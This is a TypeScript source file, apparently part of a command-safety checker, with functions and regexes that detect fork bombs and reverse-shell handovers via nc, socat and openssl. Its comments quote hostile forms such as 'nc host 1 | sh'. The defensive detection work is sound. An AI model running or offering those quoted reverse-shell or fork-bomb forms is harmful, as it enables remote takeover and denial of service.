/** Fork bombs, and shells that are handed to someone else's machine. */

import { baseName, findCommand } from '../../command/model/called-commands.js';
import type { Command } from '../../command/model/command.js';
import type { ShellWord } from '../../shell/syntax/types.js';
import { hasOption } from './possible-paths.js';

/** The words in rules/builtin-denials.yaml that identify the handover of a shell. */
export interface ShellWords {
  readonly words?: readonly string[];
  readonly prefixes?: readonly string[];
  readonly shells?: readonly string[];
  readonly dialers?: readonly string[];
  readonly script?: readonly (readonly string[])[];
  readonly ends?: readonly string[];
}

/** A cluster of nc's options without arguments, followed by `-e` or `-c` in the same word. */
const NC_CLUSTER = /^-[46bCDdFhklNnrStUuvZz]*[ec]/;

/** `-e sh`, `--sh-e sh`, `EXEC:sh`: words that give nc or socat a program to run. */
export function givesProgram(name: string, word: ShellWord, entry: ShellWords): boolean {
  const text = word.value ?? word.text.replace(/["']/g, '');
  if (name === 'socat') return entry.prefixes?.some((prefix) => text.slice(0, prefix.length).toLowerCase() === prefix) ?? false;
  return NC_CLUSTER.test(text) || hasOption([word], entry.words ?? []);
}

/**
 * A script on the command line or in a here-document that contains a word of every list (a connection, its opening, and a shell),
 * or ends with one of `ends`.
 */
export function isReverseShellScript(command: Command, entry: ShellWords): boolean {
  const { argv, redirections } = command.invocation;
  const texts = [...argv.slice(1).map((word) => word.value ?? word.text), ...redirections.map((one) => one.text ?? '')];
  return texts.some((text) => {
    const lower = text.toLowerCase();
    if (entry.ends !== undefined) {
      const near = entry.ends.filter((end) => lower.includes(end));
      return near.some((end) => lower.replace(LINE_END, '').endsWith(end));
    }
    return entry.script?.every((list) => list.some((part) => lower.includes(part))) ?? false;
  });
}

/** What ends a typed or quoted line: blanks, a quote, or a representation of the Enter key. */
const LINE_END = /(?:\s|["']|\^m|\\[nr]){1,16}$/;

/** `sh -i < f | nc host 1 > f`, `nc host 1 | sh`: a shell next to a program that connects out, in one pipeline. */
export function pipesShell(left: Command, right: Command, entry: ShellWords): boolean {
  if (dials(left, entry)) return isShell(right, entry) && (right.invocation.argv.length === 1 || isInteractive(right));
  return isShell(left, entry) && isInteractive(left) && dials(right, entry);
}

function dials(command: Command, entry: ShellWords): boolean {
  const isDialer = (one: Command) => {
    const name = baseName(one);
    if (name === null || !entry.dialers?.includes(name)) return false;
    return name !== 'openssl' || one.invocation.argv.some((word) => word.value === 's_client');
  };
  return findCommand([command], isDialer) !== null;
}

function isShell(command: Command, entry: ShellWords): boolean {
  return entry.shells?.includes(baseName(command) ?? '') ?? false;
}

function isInteractive(command: Command): boolean {
  return command.invocation.argv.some((word) => /^-[a-z]*i[a-z]*$/.test(word.value ?? ''));
}

/** A function that calls itself twice at the same time: in one pipeline or in the background. */
export function isForkBomb(source: string, commands: readonly Command[]): boolean {
  const calls = new Map<string, number>();
  let definitions: readonly Definition[] | null = null;
  for (const { invocation } of commands) {
    const { enclosures, background, argv, span } = invocation;
    const name = argv[0]?.value;
    if (name === null || name === undefined || !enclosures.includes('function')) continue;
    if (!background && !enclosures.includes('pipeline', enclosures.lastIndexOf('function'))) continue;
    definitions ??= definitionsIn(source);
    if (definitions.findLast((one) => one.at < span.start)?.name !== name) continue;
    const count = (calls.get(name) ?? 0) + 1;
    if (count > 1) return true;
    calls.set(name, count);
  }
  return BARE_BOMB.test(source.replace(/\bfunction\s+/g, '').replace(/\s+/g, ''));
}

/** The classic fork bomb in one piece, anywhere in the line (also in a script for another shell); whitespace is already removed. */
const BARE_BOMB = /([^\s(){}|&;'"]{1,64})(?:\(\))?\{\1[|&]\1[&;]*\}/;

/** Where a function definition begins. */
export interface Definition {
  readonly name: string;
  readonly at: number;
}

/** Skips quotes and comments, which neither hide nor contain a definition. */
const DEFINITION =
  /'[^']*'|"(?:\\[\s\S]|[^"\\])*"|\\[\s\S]|(?<![^\s;&|()])#[^\n]*|function[ \t]+([^\s(){}|&;<>'"\\]{1,64})|([^\s(){}|&;<>'"\\]{1,64})[ \t]{0,256}\([ \t]{0,256}\)/g;

/** The functions that a text defines, in order. */
export function definitionsIn(source: string): readonly Definition[] {
  return Array.from(source.matchAll(DEFINITION)).flatMap((match) => {
    const name = match[1] ?? match[2];
    return name === undefined ? [] : [{ name, at: match.index }];
  });
}
